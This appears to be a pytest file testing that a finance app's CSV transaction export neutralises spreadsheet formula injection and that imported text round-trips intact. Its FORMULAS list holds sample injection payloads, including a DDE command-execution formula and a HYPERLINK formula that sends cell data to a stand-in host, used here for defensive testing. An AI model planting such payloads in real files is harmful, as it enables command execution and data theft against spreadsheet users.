"""Exported files: no cell runs in a spreadsheet, amounts stay numbers, and the words come back on import."""

import csv
import io
from decimal import Decimal

import pytest
from starlette.testclient import TestClient

from tests.backend.journeys import open_account, spend
from tests.makers import imported, preview

RUNS = ("=", "+", "-", "@", "\t", "\r", "\n")
FORMULAS = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example?"&A1,"open")',
    "+1+1",
    "-2*3",
    "@SUM(1)",
    '"=1+1"',
    "  =1+1",
    "a,=1+1",
    'a","=1+1',
)


@pytest.fixture
def exported(client: TestClient) -> list[dict[str, str]]:
    """The rows of an export, after every formula was put wherever a person or a bank can put words."""
    for formula in FORMULAS:
        account = open_account(client, formula)
        category = client.post("/api/categories", json={"display_name": formula}).json()
        row = spend(client, account, -1250, description=formula)
        changes = {"merchant_name": formula, "notes": formula}
        assert client.patch(f"/api/transactions/{row}", json=changes).status_code == 200
        decided = client.post(
            f"/api/transactions/{row}/review", json={"category_short_desc": category.get("short_desc")}
        )
        assert decided.status_code in (200, 404, 405, 422)
    answer = client.get("/api/transactions/export")
    assert answer.headers["content-disposition"].startswith("attachment; ")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def test_no_cell_of_words_begins_like_a_formula(exported: list[dict[str, str]]) -> None:
    assert len(exported) == len(FORMULAS)
    for row in exported:
        words = [text for name, text in row.items() if name != "amount"]
        assert None not in row
        assert [text for text in words if text.startswith(RUNS)] == []


def test_amounts_stay_numbers(exported: list[dict[str, str]]) -> None:
    assert {Decimal(row["amount"]) for row in exported} == {Decimal("-12.50")}


def test_formulas_of_a_bank_file_are_harmless_too_and_come_back_as_they_were(client: TestClient) -> None:
    table = io.StringIO()
    writer = csv.writer(table)
    writer.writerow(["Date", "Description", "Amount"])
    texts = ["=1+2", "+49 30 1234", "-SALE-", "@HOME", "'QUOTED'"]
    writer.writerows([f"2024-01-{day:02}", text, f"-{day}.00"] for day, text in enumerate(texts, 1))
    first = open_account(client, "First")
    assert imported(client, table.getvalue().encode(), account_id=first)["added"] == len(texts)
    here = {row["description"] for row in client.get("/api/transactions").json()["items"]}
    file = client.get("/api/transactions/export").content
    rows = list(csv.DictReader(io.StringIO(file.decode(), newline="")))
    assert [row["description"] for row in rows if row["description"].startswith(RUNS)] == []
    kept = io.StringIO()
    again = csv.DictWriter(kept, ["on", "description", "amount", "currency"], extrasaction="ignore")
    again.writeheader()
    again.writerows(rows)
    seen = preview(client, kept.getvalue().encode()).json()
    read = client.get(f"/api/import/{seen['id']}/rows").json()["items"]
    assert {row["description"] for row in read} == here
    assert sorted(abs(row["amount_minor"]) for row in read) == [100, 200, 300, 400, 500]
